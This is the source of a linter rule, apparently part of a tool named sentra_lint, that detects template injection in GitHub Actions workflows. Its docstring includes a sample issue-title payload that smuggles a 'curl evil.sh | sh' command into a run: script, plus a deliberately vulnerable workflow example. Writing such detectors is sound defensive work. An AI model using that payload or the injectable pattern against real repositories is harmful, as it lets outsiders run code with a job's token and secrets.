"""Attacker-controlled text expanded into a script (template injection).

## What it does
Finds `${{ … }}` expressions whose value can carry text an attacker chose
(issue, pull request, comment, review and discussion text, head branch
names, commit messages and authors, wiki page names, the `workflow_run`
head branch, and values carried from them through `env:`, `matrix`, step
outputs and job outputs) where the runner pastes them into code:

- `run:` in every shell, in workflow jobs and in composite actions
  (`action.yml`);
- the `script:` input of `actions/github-script`.

The taint model (see `sentra_lint.workflow.taint`) works on the parsed
expression: `${{ github.event.issue.number }}`, comparisons, `contains()`
and `cond && 'x' || ''` are not reported; a field that no trigger of the
workflow sends is not reported. By default only high-confidence sources
(free text any GitHub user can write) are reported; the option
`min-confidence: medium` adds `workflow_dispatch` inputs and
`repository_dispatch` payloads, `low` adds caller inputs of reusable
workflows and composite actions, label names and unknown event fields.

Across files: a workflow step that passes attacker text through `with:`
to a composite action of the repository (`uses: ./.github/actions/x` or
`$/...`), whose `run:` expands that input (`${{ inputs.title }}`), is
reported at the caller's `with:` value, with the expansion in the action
as a related location, when outsiders can start the calling job (its
triggers and `if:` gates). The same holds for a job that calls a reusable
workflow of the repository (`jobs.<id>.uses: ./.github/workflows/x.yml`)
whose `run:` expands a `workflow_call` string input. The action or called
workflow alone, without such a caller, is reported only at
`min-confidence: low`.

A malformed expression in a sink (`${{ unclosed`, `${{ a b }}`) is
reported by this rule as malformed, with the parser's reason: GitHub
rejects such a workflow, and what it would expand to cannot be known.

## Why is this bad?
The runner substitutes expressions into the script text before the shell
(or Node.js) reads it. An issue titled `a"; curl evil.sh | sh; echo "` then
becomes shell code running with the job's token and secrets.

## Example
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue: ${{ github.event.issue.title }}"
```

## Use instead
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue: $TITLE"
```
In `actions/github-script`, read `process.env.TITLE` or
`context.payload.issue.title` instead of expanding the expression.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from sentra_lint.findings import Related, Severity, Violation
from sentra_lint.rulebase import RuleContext, RuleMeta
from sentra_lint.workflow.analysis import (
    LocatedExpr,
    action_path,
    all_scopes,
    scalar_expressions,
)
from sentra_lint.workflow.model import Workflow
from sentra_lint.workflow.taint import Confidence
from sentra_lint.yamlmodel import ScalarNode

if TYPE_CHECKING:
    from sentra_lint.crossfile import Repository
    from sentra_lint.workflow.taint import TaintSource

META = RuleMeta(
    id="SW002",
    slug="template-injection",
    title="Attacker-controlled expression expanded into a script",
    severity=Severity.ERROR,
    also=(Severity.WARNING,),
    security_severity=9.0,
    area="workflow",
    precision="high",
    options={
        "min-confidence": {
            "type": "string",
            "enum": ["high", "medium", "low"],
            "default": "high",
            "description": "Lowest confidence of attacker control to report.",
        }
    },
)


def _message(found: LocatedExpr, sink: str, minimum: Confidence) -> str:
    sources = [s for s in found.taint.sources if s.confidence >= minimum]
    names = list(dict.fromkeys(s.describe() for s in sources))
    shown = ", ".join(f"'{n}'" for n in names[:3])
    reason = sources[0].reason if sources else ""
    if "github-script" in sink:
        fix = "pass it through env: and read process.env.VAR"
    else:
        fix = 'pass it through env: and use "$VAR"'
    return f"{shown} is expanded into {sink} ({reason}); {fix}"


def _sink(
    wf: Workflow, node: ScalarNode, sink: str, found: list[LocatedExpr], minimum: Confidence
) -> Iterator[Violation]:
    for item in found:
        if item.taint.malformed:
            reason = item.taint.error.message if item.taint.error else "cannot be parsed"
            yield Violation(
                item.span,
                f"malformed expression in {sink}: {reason}; GitHub rejects it and what it "
                "would expand to cannot be checked",
                severity=Severity.WARNING,
            )
            continue
        if item.taint.at_least(minimum).tainted:
            yield Violation(item.span, _message(item, sink, minimum))


def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
    minimum = Confidence.parse(ctx.option("min-confidence"))
    for scope in all_scopes(wf):
        step = scope.step
        if step.run is not None:
            found = scalar_expressions(wf, step.run, scope.ctx)
            yield from _sink(wf, step.run, "a run: script", found, minimum)
        if action_path(step) == "actions/github-script":
            script = step.input_scalar("script")
            if script is not None:
                found = scalar_expressions(wf, script, scope.ctx)
                yield from _sink(wf, script, "a github-script script", found, minimum)


def _chain(source: TaintSource) -> str:
    return " -> ".join((source.path, *reversed(source.via)))


def check_repository(repo: Repository, ctx: RuleContext) -> Iterator[Violation]:
    """A caller's ``with:`` value that carries attacker text into an input
    the called action expands into a ``run:`` script."""
    minimum = Confidence.parse(ctx.option("min-confidence"))
    for caller in repo.files:
        for call in caller.calls:
            if not call.outsiders:
                continue
            callee = repo.called(caller, call.target, call.kind)
            if callee is None or not callee.sinks:
                continue
            shown = call.target.rstrip("/")
            what = "the called workflow"
            if call.kind == "action":
                shown += "/" + callee.abspath.replace("\\", "/").rsplit("/", 1)[-1]
                what = "the action"
            for passed in call.passed:
                sources = [s for s in passed.sources if s.confidence >= minimum]
                sinks = [s for s in callee.sinks if s.name == passed.name.lower()]
                if not sources or not sinks:
                    continue
                first = sinks[0]
                chains = list(dict.fromkeys(_chain(s) for s in sources))
                hops = "".join(f" -> {v}" for v in reversed(first.via))
                where = f"inputs.{passed.name}{hops} in {shown}:{first.span.line}"
                path = " | ".join(f"{c} -> with: {passed.name} -> {where}" for c in chains[:2])
                more = f" (and {len(sinks) - 1} more place(s) in {what})" if len(sinks) > 1 else ""
                yield Violation(
                    passed.span,
                    f"{path} is expanded into a run: script{more} ({sources[0].reason}); "
                    f'{call.reach}; in {what}, pass the input through env: and use "$VAR"',
                    related=tuple(
                        Related(
                            callee.path,
                            s.span,
                            f"inputs.{passed.name} is expanded into a run: script ({s.label})",
                        )
                        for s in sinks
                    ),
                    path=caller.path,
                )
